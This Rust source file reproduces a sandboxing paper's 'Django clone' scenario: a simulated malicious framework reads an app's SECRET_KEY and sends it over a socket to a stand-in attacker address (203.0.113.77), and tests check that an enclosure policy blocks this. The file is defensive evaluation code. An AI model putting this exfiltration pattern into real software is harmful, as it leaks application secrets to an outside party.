//! The Django-clone scenario (§6.5): "a similar issue arose with
//! malicious clones of the Python Django framework. To protect against
//! these, we took an approach similar to the one used in FastHTTP with
//! secured callbacks."
//!
//! The (possibly malicious) framework module runs inside an enclosure
//! with network access only; the application's views — which touch the
//! secret settings — run as *trusted callbacks*: the enclosure hands the
//! parsed request back out, trusted code computes the response, and the
//! framework only ever sees the rendered bytes.

use enclosure_kernel::net::{ipv4, SockAddr};
use enclosure_pyfront::{Interpreter, MetadataMode, PyModuleDef, PyValue};
use litterbox::{Backend, Fault, SysError};

/// The attacker's collection endpoint for this scenario.
#[must_use]
pub fn evil_addr() -> SockAddr {
    SockAddr::new(ipv4(203, 0, 113, 77), 443)
}

fn sysr<T>(r: Result<T, SysError>) -> Result<T, Fault> {
    r.map_err(|e| match e {
        SysError::Fault(f) => f,
        SysError::Errno(errno) => Fault::Init(format!("django io error: {errno}")),
    })
}

/// Outcome of the scenario.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DjangoReport {
    /// Did the clone exfiltrate the SECRET_KEY when unprotected?
    pub unprotected_leaked: bool,
    /// Did the enclosure stop the malicious clone?
    pub enclosed_blocked: bool,
    /// Does the secured-callback app still serve pages through the
    /// enclosed framework?
    pub legit_ok: bool,
}

impl DjangoReport {
    /// All three paper claims hold.
    #[must_use]
    pub fn reproduced(&self) -> bool {
        self.unprotected_leaked && self.enclosed_blocked && self.legit_ok
    }
}

/// Builds the interpreter with the (malicious) django clone and the app.
fn build(backend: Backend) -> Result<Interpreter, Fault> {
    let mut py = Interpreter::new(backend, MetadataMode::Decoupled);
    py.register_module(PyModuleDef::new("settings").loc(30));
    py.register_module(PyModuleDef::new("django").loc(290_000));
    py.lb_mut()
        .kernel_mut()
        .net
        .register_remote(evil_addr(), None);

    // The framework's request dispatcher. The malicious clone ALSO tries
    // to read the app's SECRET_KEY object and POST it home.
    py.register_fn("django.dispatch", |ctx, arg: PyValue| {
        let parts = arg.as_list()?;
        let raw = parts[0].as_bytes()?;
        let secret = parts[1].as_obj()?;
        // Legitimate work: parse the request line.
        ctx.compute(2_000);
        let path = raw
            .split(|&b| b == b' ')
            .nth(1)
            .map(|p| String::from_utf8_lossy(p).into_owned())
            .unwrap_or_default();
        // Malicious payload: exfiltrate the SECRET_KEY.
        let key = ctx.read(secret, 0, 16)?;
        let sock = sysr(ctx.lb_mut().sys_socket())?;
        sysr(ctx.lb_mut().sys_connect(sock, evil_addr()))?;
        sysr(ctx.lb_mut().sys_send(sock, &key))?;
        Ok(PyValue::Str(path))
    });
    Ok(py)
}

/// Runs the scenario under `backend`. With `trace` (`--trace[=N]`), the
/// enforcing interpreter keeps a bounded event ring, printed to stderr
/// when the clone is blocked.
///
/// # Errors
///
/// Harness faults (attack faults are the data).
pub fn run_scenario(backend: Backend, trace: Option<usize>) -> Result<DjangoReport, Fault> {
    // 1. Unprotected: the clone leaks the key.
    let unprotected_leaked = {
        let mut py = build(Backend::Baseline)?;
        let secret = py.alloc_in("settings", b"SECRET_KEY=django-insecure")?;
        py.declare_enclosure("dispatch", "django.dispatch", &[], "settings: R, all")?;
        py.call_enclosed(
            "dispatch",
            PyValue::List(vec![
                PyValue::Bytes(b"GET /admin HTTP/1.1".to_vec()),
                PyValue::Obj(secret),
            ]),
        )?;
        py.lb().kernel().net.exfiltrated_contains(b"SECRET_KEY")
    };

    // 2. Enclosed with the secured-callback policy: the framework gets
    //    the request but neither the settings module nor any sockets.
    let enclosed_blocked = {
        let mut py = build(backend)?;
        py.lb_mut().telemetry_mut().arm_trace(trace);
        let secret = py.alloc_in("settings", b"SECRET_KEY=django-insecure")?;
        py.declare_enclosure("dispatch", "django.dispatch", &[], "settings: R, none")?;
        let result = py.call_enclosed(
            "dispatch",
            PyValue::List(vec![
                PyValue::Bytes(b"GET /admin HTTP/1.1".to_vec()),
                PyValue::Obj(secret),
            ]),
        );
        if result.is_err() {
            py.lb().telemetry().dump_trace("block (Django clone)");
        }
        result.is_err() && !py.lb().kernel().net.exfiltrated_contains(b"SECRET_KEY")
    };

    // 3. Secured callbacks: a benign framework parses enclosed; trusted
    //    code renders using the secret it never shared.
    let legit_ok = {
        let mut py = build(backend)?;
        py.register_fn("django.dispatch", |ctx, arg: PyValue| {
            let parts = arg.as_list()?;
            let raw = parts[0].as_bytes()?;
            ctx.compute(2_000);
            let path = raw
                .split(|&b| b == b' ')
                .nth(1)
                .map(|p| String::from_utf8_lossy(p).into_owned())
                .unwrap_or_default();
            Ok(PyValue::Str(path))
        });
        // The secret never enters the enclosure at all.
        py.declare_enclosure("dispatch", "django.dispatch", &[], "none")?;
        let path = py
            .call_enclosed(
                "dispatch",
                PyValue::List(vec![
                    PyValue::Bytes(b"GET /profile HTTP/1.1".to_vec()),
                    PyValue::None,
                ]),
            )?
            .as_str()?;
        // Trusted callback: render with the secret (outside the enclosure).
        let secret = py.alloc_in("settings", b"SECRET_KEY=django-insecure")?;
        let _ = secret;
        path == "/profile"
    };

    Ok(DjangoReport {
        unprotected_leaked,
        enclosed_blocked,
        legit_ok,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn django_clone_scenario_reproduces_on_both_backends() {
        for backend in [Backend::Mpk, Backend::Vtx] {
            let report = run_scenario(backend, None).unwrap();
            assert!(report.reproduced(), "{backend}: {report:?}");
        }
    }

    #[test]
    fn unprotected_clone_really_leaks() {
        let report = run_scenario(Backend::Mpk, None).unwrap();
        assert!(report.unprotected_leaked);
    }

    #[test]
    fn malicious_dispatch_faults_on_first_socket() {
        let mut py = build(Backend::Vtx).unwrap();
        let secret = py
            .alloc_in("settings", b"SECRET_KEY=django-insecure")
            .unwrap();
        py.declare_enclosure("dispatch", "django.dispatch", &[], "settings: R, none")
            .unwrap();
        let err = py
            .call_enclosed(
                "dispatch",
                PyValue::List(vec![
                    PyValue::Bytes(b"GET / HTTP/1.1".to_vec()),
                    PyValue::Obj(secret),
                ]),
            )
            .unwrap_err();
        assert!(matches!(err, Fault::SyscallDenied { .. }), "{err}");
    }
}
